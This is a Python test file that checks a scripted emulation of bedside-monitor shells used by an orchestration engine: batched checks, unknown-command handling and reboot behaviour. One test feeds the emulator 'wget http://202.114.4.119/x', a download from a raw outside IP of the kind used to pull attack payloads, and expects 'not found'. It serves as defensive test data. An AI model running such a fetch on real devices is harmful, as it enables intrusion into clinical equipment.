"""The scripted monitor itself: it answers what a real shell would for the commands the engine sends, so
a rule test that passes on it is a rule the engine keeps, not an artefact of the stand-in."""

from __future__ import annotations

import secrets

import pytest

from orchestrator.adapters.profile_file import ProfileBook
from orchestrator.adapters.scripted import ScriptedFleet
from orchestrator.domain import check_batch, checks
from orchestrator.errors import TransientTransportError
from tests.unit.engine_rules_rig import device

SHIPPED = ("emulated-cms-service-shell", "generic-busybox-no-triggers")


def _fleet(profile: str) -> ScriptedFleet:
    devices = (device(1, profile=profile),)
    return ScriptedFleet(devices, ProfileBook(devices).of)


@pytest.mark.parametrize("profile", SHIPPED)
def test_a_check_batch_answers_each_check_as_the_command_would_alone(profile: str) -> None:
    fleet = _fleet(profile)
    session = fleet.transport.open(device(1, profile=profile))
    p = fleet.monitor("bed01").profile
    commands = checks.device_commands(p.command("clinical_status"), p.command("firmware_read"), p.binaries,
                                      p.device_checks)
    names = list(commands)
    nonce = secrets.token_hex(16)
    parts = check_batch.split_batch(session.run(check_batch.batch_script(names, nonce, commands)).stdout,
                                    nonce, names)
    assert sorted(parts) == sorted(names)
    for name in names:
        alone = session.run(commands[name])
        assert (parts[name].stdout, parts[name].stderr, parts[name].exit_status) == (
            alone.stdout, alone.stderr, alone.exit_status), name
    assert fleet.monitor("bed01").unknown_commands == []


def test_a_command_no_profile_describes_gets_the_shells_not_found() -> None:
    fleet = _fleet(SHIPPED[0])
    result = fleet.transport.open(device(1)).run("wget http://202.114.4.119/x")
    assert result.exit_status == 127
    assert fleet.monitor("bed01").unknown_commands == ["wget http://202.114.4.119/x"]


def test_a_reboot_ends_the_session_and_the_next_one_reaches_a_new_boot() -> None:
    fleet = _fleet(SHIPPED[0])
    m = fleet.monitor("bed01")
    session = fleet.transport.open(device(1))
    before = m.boot_id
    session.run(m.profile.command("reboot"))
    assert session.wait_disconnect(5.0) is True
    with pytest.raises(TransientTransportError):
        session.run(m.profile.command("firmware_read"))
    session.reconnect(timeout=1.0)
    identity = session.run(m.profile.identity_command()).text
    assert f"boot_id={m.boot_id}" in identity and m.boot_id != before
